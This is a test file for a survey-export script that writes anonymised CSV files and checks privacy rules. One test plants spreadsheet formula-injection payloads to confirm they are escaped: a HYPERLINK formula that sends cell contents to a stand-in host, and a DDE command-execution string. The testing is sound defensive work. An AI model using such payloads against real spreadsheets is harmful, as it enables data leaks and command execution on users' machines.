// `export-survey` against the local Workspace over REST: an anonymous CSV of the evaluation survey and its codebook.
import { cpSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { main } from '../../scripts/export-survey';
import { parseCsv } from '../../scripts/lib/csv';
import { buildSurveyExport, EXPORT_TABS, evaluationDefinitions, SURVEYS_DIR } from '../../scripts/lib/export-survey';
import { loadSampleOrganization } from '../../scripts/sample/organization';
import { captureIO, startHarness, type RestHarness } from '../support/rest-harness';
import { env, sampleTracker, tabValues } from './tracker-fixture';
import { addProcessAnswers, linkEvaluationWorkbook, sampleProcessPeople } from './evaluation-fixture';

let h: RestHarness;
let tracker: string;
let dir: string;
beforeAll(async () => {
  h = await startHarness();
  tracker = sampleTracker(h, 'Harbour Lights tracker').id;
});
afterAll(async () => { await h.close(); });
beforeEach(() => { dir = mkdtempSync(join(tmpdir(), 'rose-export-')); });

async function exportSurvey(args: string[]) {
  const io = captureIO(env(h));
  const code = await main(['--tracker', tracker, '--out', join(dir, 'survey.csv'), ...args], io);
  const read = (name: string) => parseCsv(readFileSync(join(dir, name), 'utf8')).map((l) => l.cells);
  return { code, io, read };
}

describe('export-survey', () => {
  it('writes one row per response with scores equal to the Survey Responses tab, and a codebook', async () => {
    const { code, io, read } = await exportSurvey([]);
    expect(io.stderr.filter((l) => !/site\(s\) are written as|Free-text answers left out|links no Evaluation workbook yet/.test(l))).toEqual([]);
    expect(code).toBe(0);
    const [header, ...rows] = read('survey.csv');
    const tab = tabValues(h.ws, tracker, 'Survey Responses');
    expect(rows).toHaveLength(tab.length - 1);
    expect(header.slice(0, 6)).toEqual(['Survey', 'Survey version', 'Wave', 'Site', 'Participant code', 'Submitted']);

    // Scores: the same numbers as the tab, response by response (matched on participant code and wave).
    const tabHeader = tab[0].map(String);
    const scoreHeader = tabHeader.find((t) => t.endsWith('[role_clarity]') && t.startsWith('Score:'))!;
    for (const row of rows) {
      const source = tab.slice(1).filter((r) => r[tabHeader.indexOf('Participant code')] === row[4] && r[tabHeader.indexOf('Wave')] === row[2]);
      const stored = source[source.length - 1][tabHeader.indexOf(scoreHeader)];
      expect(row[header.indexOf('role_clarity_score')]).toBe(String(stored));
    }
    expect(rows.every((r) => /^\d{4}-\d{2}-\d{2}$/.test(r[5]))).toBe(true);

    const [bookHeader, ...book] = read('survey.codebook.csv');
    expect(bookHeader).toEqual(['column', 'question text', 'type', 'values / labels', 'scale items', 'reverse items']);
    expect(book.map((b) => b[0])).toEqual(header);
    const scale = book.find((b) => b[0] === 'role_clarity_score')!;
    expect(scale[4].split(' ')).toContain('role_clarity_3');
    expect(scale[5]).toBe('role_clarity_3');
    expect(book.find((b) => b[0] === 'role_clarity_1')![3]).toMatch(/^1=Strongly disagree; 2=Disagree/);
    expect(io.stdout[0]).toMatch(/^Wrote 21 response\(s\) to "ROSE peer worker survey"/);
  });

  it('writes choice answers as codes that the codebook explains', async () => {
    const { read } = await exportSurvey([]);
    const [header, ...rows] = read('survey.csv');
    const tab = tabValues(h.ws, tracker, 'Survey Responses');
    const column = tab[0].map(String).findIndex((t) => t.startsWith('role_clarity_1 ·'));
    const answer = String(tab[1][column]);
    const options = ['Strongly disagree', 'Disagree', 'Neither agree nor disagree', 'Agree', 'Strongly agree', 'Does not apply to me'];
    expect(rows[0][header.indexOf('role_clarity_1')]).toBe(String(options.indexOf(answer) + 1));
  });

  it('leaves free text out unless asked, and never reads Staff or any other tab', async () => {
    const plain = await exportSurvey([]);
    const free = evaluationDefinitions()[0].items.filter((i) => i.type === 'long_text').map((i) => i.id);
    expect(free.length).toBeGreaterThan(0);
    expect(plain.read('survey.csv')[0]).not.toEqual(expect.arrayContaining([free[0]]));
    expect(plain.io.stderr.find((l) => l.startsWith('Free-text answers left out'))).toContain(free.join(', '));
    // Two requests (the tab list, then one batchGet), and the only tabs asked for are Settings and Survey Responses.
    expect(EXPORT_TABS).toEqual(['Settings', 'Survey Responses']);
    // Before Set up private workbooks the answers are the tracker's own, and the command says so.
    expect(plain.io.stderr).toContain('The tracker links no Evaluation workbook yet, so survey answers are read from its own Survey Responses tab.');
    const before = h.server.requests.length;
    await exportSurvey([]);
    expect(h.server.requests.slice(before).map((r) => r.name)).toEqual(['sheets.spreadsheets.get', 'sheets.spreadsheets.values.batchGet']);

    const withText = await exportSurvey(['--include-free-text']);
    expect(withText.read('survey.csv')[0]).toEqual(expect.arrayContaining(free));
  });

  it('by default holds no time of day anywhere, though the tab keeps each answer\'s time to the second', async () => {
    const tab = tabValues(h.ws, tracker, 'Survey Responses');
    const submitted = tab[0].map(String).indexOf('Submitted');
    // The tracker holds precise times (the attack: a time beside a small site points to a person).
    expect(tab.slice(1).some((r) => r[submitted] instanceof Date || /\d{1,2}:\d{2}/.test(String(r[submitted])))).toBe(true);
    const { read } = await exportSurvey([]);
    const [header, ...rows] = read('survey.csv');
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/\d{1,2}:\d{2}(:\d{2})?|T\d{2}/);
    // And no free-text column: every column is a leading column, a code, a score or a flag the codebook explains.
    const free = evaluationDefinitions()[0].items.filter((i) => i.type === 'long_text' || i.type === 'short_text').map((i) => i.id);
    for (const id of free) expect(header).not.toContain(id);
  });

  it('names no staff anywhere in the file', async () => {
    const { read } = await exportSurvey(['--include-free-text']);
    const text = read('survey.csv').flat().join('\n');
    for (const person of loadSampleOrganization().tabs.Staff) {
      expect(text).not.toContain(String(person['Full name']));
      if (person.Email) expect(text).not.toContain(String(person.Email));
    }
  });

  it('merges the names of sites with fewer responses than the minimum group size, and says so', async () => {
    const { io, read } = await exportSurvey(['--min-group-size', '9']);
    const [header, ...rows] = read('survey.csv');
    const sites = new Set(rows.map((r) => r[header.indexOf('Site')]));
    // Harbour Lights has 13 responses, Cedar House 9 (one repeated): only a minimum of 10 hides Cedar House.
    expect(sites).toEqual(new Set(['Harbour Lights Drop-in', 'Cedar House']));
    const strict = await exportSurvey(['--min-group-size', '10']);
    const strictRows = strict.read('survey.csv');
    // Cedar House alone under "Other sites" would still be Cedar House: the smallest named site joins it.
    expect(new Set(strictRows.slice(1).map((r) => r[3]))).toEqual(new Set(['Other sites (fewer than 10)']));
    expect(strict.io.stderr).toContain('2 site(s) are written as "Other sites (fewer than 10)" so that no site with fewer than 10 responses is named.');
    expect(io.stderr.some((l) => /site\(s\) are written as/.test(l))).toBe(false);
  });

  it('writes formula-like answers as text even without --excel, and keeps numbers numeric', async () => {
    const hostile = sampleTracker(h, 'Hostile answers tracker').id;
    const tab = tabValues(h.ws, hostile, 'Survey Responses');
    const letter = (index: number): string => (index >= 26 ? letter(Math.floor(index / 26) - 1) : '') + String.fromCharCode(65 + (index % 26));
    const column = (name: string) => letter(tab[0].map(String).indexOf(name));
    const scoreColumn = letter(tab[0].map(String).findIndex((t) => t.startsWith('Score:') && t.endsWith('[role_clarity]')));
    await h.apis().sheets.spreadsheets.values.batchUpdate({
      spreadsheetId: hostile,
      requestBody: {
        valueInputOption: 'RAW',
        data: [
          { range: `'Survey Responses'!${column('Site')}2`, values: [['=HYPERLINK("http://x.example/?"&A1,"Open")']] },
          { range: `'Survey Responses'!${column('Participant code')}2:${column('Participant code')}4`, values: [["=cmd|' /C calc'!A0"], ['@SUM(1+1)'], ['-2+3']] },
          { range: `'Survey Responses'!${scoreColumn}2`, values: [[-2]] },
        ],
      },
    });
    const io = captureIO(env(h));
    const out = join(dir, 'hostile.csv');
    expect(await main(['--tracker', hostile, '--out', out, '--min-group-size', '1'], io)).toBe(0);
    const text = readFileSync(out, 'utf8');
    const [header, ...rows] = parseCsv(text).map((l) => l.cells);
    expect(text.charCodeAt(0)).not.toBe(0xfeff);
    expect(rows[0][header.indexOf('Site')]).toBe('\'=HYPERLINK("http://x.example/?"&A1,"Open")');
    expect(rows.slice(0, 3).map((r) => r[header.indexOf('Participant code')])).toEqual(["'=cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3"]);
    expect(rows[0][header.indexOf('role_clarity_score')]).toBe('-2');
    expect(text).toMatch(/,-2(,|\r\n)/);
    // No cell of the data or the codebook starts with a formula trigger.
    const cells = [...parseCsv(text), ...parseCsv(readFileSync(join(dir, 'hostile.codebook.csv'), 'utf8'))].flatMap((l) => l.cells);
    expect(cells.filter((cell) => /^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/.test(cell))).toEqual([]);
  });

  it('guards formula-like text and adds a byte order mark with --excel', async () => {
    const tab = new Map<string, (string | number)[][]>([
      ['Survey Responses', [
        ['ID', 'Submitted', 'Survey', 'Survey version', 'Wave', 'Site', 'Participant code'],
        ['RESP-0001', '2026-01-02 00:00', 'rose-evaluation', 1, 'baseline', '=HYPERLINK("http://x")', '-AB01C2'],
      ]],
    ]);
    const result = buildSurveyExport({ tabs: tab }, evaluationDefinitions(), { includeFreeText: false, minGroupSize: 1 });
    expect(result.rows[0].slice(3, 5)).toEqual(['=HYPERLINK("http://x")', '-AB01C2']);
    const { toCsv } = await import('../../scripts/lib/csv');
    const csv = toCsv([result.rows[0].slice(3, 5)], { excel: true });
    expect(csv).toBe('\uFEFF"\'=HYPERLINK(""http://x"")",\'-AB01C2\r\n');
    expect(toCsv([[-3, '-3']], { excel: true })).toBe('\uFEFF-3,-3\r\n');
  });

  it('refuses a survey that is not marked anonymous', async () => {
    const surveys = mkdtempSync(join(tmpdir(), 'rose-surveys-'));
    cpSync(SURVEYS_DIR, surveys, { recursive: true });
    const file = join(surveys, 'rose-evaluation.json');
    writeFileSync(file, readFileSync(file, 'utf8').replace('"anonymous": true', '"anonymous": false'));
    const tabs = new Map([['Survey Responses', [['ID', 'Survey'], ['RESP-0001', 'rose-evaluation']]]]);
    expect(() => buildSurveyExport({ tabs }, evaluationDefinitions(surveys), { includeFreeText: false })).toThrow(
      'The survey "rose-evaluation" is not marked anonymous, so export-survey will not write it out; only anonymous surveys can be exported for analysis',
    );
  });

  it('ends in one sentence for a tracker that does not exist', async () => {
    const io = captureIO(env(h));
    const code = await main(['--tracker', '1DoesNotExist00000000000000000', '--out', join(dir, 'x.csv')], io);
    expect(code).toBe(1);
    expect(io.stderr).toEqual(['Google found no spreadsheet 1DoesNotExist00000000000000000, or it is not shared with your account; check the ID (the long part of its link) and ask its owner to share it with you.']);
  });
});

describe('export-survey once the answers live in the Evaluation workbook', () => {
  let linked: string;
  let workbook: string;
  beforeAll(() => {
    const made = sampleTracker(h, 'Linked tracker');
    linked = made.id;
    workbook = linkEvaluationWorkbook(h.ws, made.addon, linked);
    // The implementation survey's rows share the tab; they are not this command's.
    addProcessAnswers(h.ws, workbook, sampleProcessPeople().slice(0, 6));
  });

  it('finds them through the tracker\'s link, in one batchGet per spreadsheet, and leaves the implementation survey\'s rows alone', async () => {
    expect(tabValues(h.ws, linked, 'Survey Responses')).toHaveLength(1);
    const before = h.server.requests.length;
    const io = captureIO(env(h));
    const out = join(dir, 'linked.csv');
    expect(await main(['--tracker', linked, '--out', out], io)).toBe(0);
    const calls = h.server.requests.slice(before);
    expect(calls.map((r) => r.name)).toEqual(['sheets.spreadsheets.get', 'sheets.spreadsheets.values.batchGet', 'sheets.spreadsheets.values.batchGet']);
    expect(calls[2].path).toContain(workbook);
    const rows = parseCsv(readFileSync(out, 'utf8')).map((l) => l.cells);
    expect(rows).toHaveLength(22);
    expect(new Set(rows.slice(1).map((r) => r[0]))).toEqual(new Set(['rose-evaluation']));
    expect(io.stderr.filter((l) => /links no Evaluation workbook/.test(l))).toEqual([]);
  });

  it('points to export-evaluation for the implementation survey', async () => {
    const io = captureIO(env(h));
    expect(await main(['--tracker', linked, '--out', join(dir, 'p.csv'), '--survey', 'rose-process'], io)).toBe(1);
    expect(io.stderr).toEqual(['The answers to "rose-process" (the implementation survey) are exported by npm run export-evaluation -- --process <file.csv>.']);
  });
});
